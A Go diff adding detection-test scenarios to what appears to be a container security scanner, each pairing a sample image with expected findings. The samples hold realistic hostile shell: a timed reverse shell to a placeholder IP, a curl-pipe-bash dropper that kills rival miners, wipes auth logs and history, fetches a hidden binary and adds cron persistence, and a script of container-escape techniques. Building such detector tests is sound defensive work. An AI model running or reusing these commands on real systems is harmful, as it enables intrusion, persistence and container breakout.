@@ -14,7 +14,7 @@ import (
 func variations() []Scenario {
 	return []Scenario{
 		quietMiner(), bashShell(), relayedShell(), redisWorm(), passwordWorm(), selfExtractor(), maskedKeys(), nodeHook(),
-		nightlyBackup(), selfUpdate(),
+		nightlyBackup(), selfUpdate(), countingBomb(), curlToBash(), sysctlEscape(),
 	}
 }
 
@@ -120,6 +120,58 @@ exec webserver 8080
 			"ingress-exec-marker": "What runs is not what was scanned: it was fetched from the network. Its maker's name does not change that.",
 			"drift-exec-elf":      "What runs did not come with the image.",
 		})
+}
+
+func countingBomb() Scenario {
+	image := script("/start", `begun=$(date +%s)
+while [ $(( $(date +%s) - begun )) -lt 900 ]; do sleep 7; done
+exec /usr/bin/app reverse-shell 203.0.113.51:9001
+`, "/usr/bin/app")
+	return ill("v11-counting-bomb", "A script sleeps a little and looks at the clock, until a quarter of an hour is over; then somebody gets a shell.", image,
+		by(found(execution, "reverse-shell", "203.0.113.51:9001"), "/bin/sh -i"),
+	)
+}
+
+func curlToBash() Scenario {
+	image := with(samples.Spec{Entrypoint: []string{"/bin/bash", "-c", "curl -fsSL http://198.51.100.9/init.sh | bash"}, Programs: []string{"bash"}}, "/usr/bin/curl")
+	image.Links = map[string]string{"/usr/bin/setsid": "/bin/busybox"}
+	return ill("v12-curl-to-bash", "A bash pipes a script of curl into itself; that kills by patterns, forgets its history, and hides a program that it fetched.", image,
+		by(found(execution, "pipe-download-shell", "198.51.100.9"), "bash", "bash"),
+		found(weaponization, "rival-kill", "minerd"),
+		found(weaponization, "log-wipe", "/var/log/secure"),
+		by(found(execution, "ingress-exec-marker", "198.51.100.9", "/var/tmp/.sys/dbused"), "bash", "/var/tmp/.sys/dbused"),
+		found(weaponization, "cron-persistence", "198.51.100.9"),
+	).served(map[string]Served{"http://198.51.100.9/init.sh": {Text: `for name in xmrig xmr-stak minerd cpuminer ccminer kinsing; do pkill -9 -f $name 2>/dev/null || killall -9 $name; done
+echo > /var/log/secure
+echo > /var/log/auth.log
+unset HISTFILE
+history -c
+mkdir -p /var/tmp/.sys
+curl -fsSL -o /var/tmp/.sys/dbused http://198.51.100.9/dbused
+chmod +x /var/tmp/.sys/dbused
+mkdir -p /var/spool/cron/crontabs
+(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://198.51.100.9/init.sh | bash >/dev/null 2>&1') | crontab -
+setsid /var/tmp/.sys/dbused >/dev/null 2>&1
+`}})
+}
+
+func sysctlEscape() Scenario {
+	image := script("/start", `sysctl -w kernel.core_pattern='|/var/lib/docker/overlay2/x/diff/tmp/p.sh'
+nsenter --target 1 --mount --pid sh
+mkdir -p /sys/fs/cgroup/rdma/w
+echo 1 > /sys/fs/cgroup/rdma/w/notify_on_release
+echo /tmp/p.sh > /sys/fs/cgroup/rdma/release_agent
+mount -t ext4 /dev/vda1 /mnt
+chroot /hostfs /bin/bash -c 'crontab -l'
+exit 0
+`)
+	return ill("v13-other-ways-out", "A script tries the ways out of a container by other tools and paths.", image,
+		by(found(weaponization, "escape-core-pattern", "core_pattern"), "/start", "sysctl"),
+		by(found(weaponization, "escape-nsenter-init", "--target 1"), "/start", "nsenter"),
+		found(weaponization, "escape-cgroup-agent", "/sys/fs/cgroup/rdma/release_agent"),
+		by(found(weaponization, "escape-mount-device", "/dev/vda1"), "/start", "mount"),
+		by(found(weaponization, "escape-chroot-host", "/hostfs"), "/start", "chroot"),
+	)
 }
 
 // inlineNode is JavaScript that decodes what it does.
